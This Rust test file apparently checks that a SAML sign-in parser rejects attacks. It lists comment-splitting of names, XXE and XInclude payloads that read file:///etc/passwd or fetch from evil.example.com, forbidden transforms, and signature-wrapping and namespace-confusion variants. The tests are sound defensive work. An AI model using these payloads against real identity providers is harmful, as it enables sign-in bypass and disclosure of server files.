//! What an attacker does to text and to the parser: T9, T11, T18, T22.

use super::{Attack, PERSON, assertion_of, cut, swap};

const REJECTED: &str = "The sign-in was rejected";
const SIGNATURE: &str = "The signature was not accepted";

/// CVE-2017-11427 and its family: `admin<!---->.evil.example` read as `admin`.
#[tokio::test]
async fn t9_text_cannot_be_split() {
    let attack = Attack::begin().await;
    let mut attacks = Vec::new();
    for (text, part) in [
        (PERSON, "alice"),
        ("+94771234567", "+94771"),
        ("http://localhost:9763/identity", "http://localhost"),
        ("travelocity.com", "travelocity"),
    ] {
        for (splitter, reason) in [
            ("<!---->", "a comment"),
            ("<!-- x -->", "a comment"),
            ("<?x?>", "a processing instruction"),
            ("<![CDATA[]]>", "a CDATA section"),
            ("<x/>", REJECTED),
            ("&x;", "not well-formed"),
        ] {
            let split = text.replacen(part, &format!("{part}{splitter}"), 1);
            attacks.push((swap(&attack.good, text, &split), reason));
        }
    }
    attack.each(attacks).await;
}

#[tokio::test]
async fn t11_entities_inclusion_and_transforms() {
    let attack = Attack::begin().await;
    let good = &attack.good;
    let mut attacks: Vec<(String, &str)> = [
        "<!DOCTYPE x SYSTEM \"https://evil.example.com/x.dtd\">",
        "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"https://evil.example.com/\"> %p;]>",
        "<?xml version=\"1.0\"?><!DOCTYPE x []>",
    ]
    .map(|doctype| (format!("{doctype}{good}"), "document type or entity declaration"))
    .to_vec();
    let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>";
    attacks.push((
        swap(good, "<samlp:Status>", &format!("{include}<samlp:Status>")),
        "other documents to be included",
    ));
    let enveloped = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
    for transform in [
        "http://www.w3.org/TR/1999/REC-xslt-19991116",
        "http://www.w3.org/TR/1999/REC-xpath-19991116",
        "http://www.w3.org/2000/09/xmldsig#base64",
    ] {
        attacks.push((swap(good, enveloped, transform), "a transform that SAML does not allow"));
    }
    let inclusive = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
    attacks.push((
        good.replace("http://www.w3.org/2001/10/xml-exc-c14n#", inclusive),
        SIGNATURE,
    ));
    let more = format!("<ds:Transform Algorithm=\"{enveloped}\"/></ds:Transforms>");
    attacks.push((swap(good, "</ds:Transforms>", &more), SIGNATURE));
    attack.each(attacks).await;
}

/// A key that has to be fetched is not fetched: it makes no difference what stands there.
#[tokio::test]
async fn t11_retrieval_methods_are_not_followed() {
    let attack = Attack::begin().await;
    let data = cut(&attack.good, "<ds:X509Data>", "</ds:X509Data>");
    let xml = swap(
        &attack.good,
        data,
        "<ds:RetrievalMethod URI=\"http://127.0.0.1:9/key\"/>",
    );
    let attacks = vec![(swap(&xml, PERSON, "mallory@example.com"), SIGNATURE)];
    attack.each(attacks).await;
    let other = Attack::begin().await;
    let data = cut(&other.good, "<ds:X509Data>", "</ds:X509Data>");
    let xml = swap(
        &other.good,
        data,
        "<ds:RetrievalMethod URI=\"http://127.0.0.1:9/key\"/>",
    );
    other.accepted(&xml).await;
}

/// What another parser might read differently is refused and not interpreted (CVE-2025-25291, CVE-2025-25292).
#[tokio::test]
async fn t18_ambiguous_documents() {
    let attack = Attack::begin().await;
    let good = &attack.good;
    let same_id = format!(
        "<samlp:Extensions><x ID=\"{}\"/></samlp:Extensions><samlp:Status>",
        attack.spec.assertion_id
    );
    let attacks = vec![
        (
            swap(good, "Version=\"2.0\"", "Version=\"2.0\" Version=\"2.0\""),
            "not well-formed",
        ),
        (swap(good, "<samlp:Status>", &same_id), "twice"),
        (format!("{good}{good}"), "not well-formed"),
        (
            good.replace(" xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"", ""),
            "not well-formed",
        ),
        (swap(good, PERSON, "blice@example.com"), SIGNATURE),
        (swap(good, "+94771234567", "+94771234568"), SIGNATURE),
        (swap(good, "session-1", "session-2"), SIGNATURE),
        (
            swap(good, "refeds.org/profile/mfa", "refeds.org/profile/sfa"),
            SIGNATURE,
        ),
    ];
    attack.each(attacks).await;
}

/// Namespaces and attributes that libraries read in different ways ("The Fragile Lock", CVE-2025-66568).
#[tokio::test]
async fn t22_relative_namespaces_and_attribute_pollution() {
    let attack = Attack::begin().await;
    let good = &attack.good;
    let mut attacks: Vec<_> = ["relative", "../x", "1:2", "/path"]
        .iter()
        .map(|namespace| {
            let element = format!("<saml:Assertion xmlns:r=\"{namespace}\" ");
            (swap(good, "<saml:Assertion ", &element), REJECTED)
        })
        .collect();
    for attribute in [
        "samlp:ID=\"_x\"".to_owned(),
        "saml:Destination=\"x\"".to_owned(),
        format!("xml:id=\"{}\"", attack.spec.id),
        "saml:Version=\"1.1\"".to_owned(),
    ] {
        attacks.push((swap(good, " ID=", &format!(" {attribute} ID=")), REJECTED));
    }
    // An element of SAML's name in another namespace is not SAML's.
    let assertion = assertion_of(good);
    let confused = assertion
        .replace("SAML:2.0:assertion\"", "SAML:2.0:assertion2\"")
        .replace(PERSON, "mallory@example.com");
    attacks.push((swap(good, assertion, &confused), REJECTED));
    attack.each(attacks).await;
}
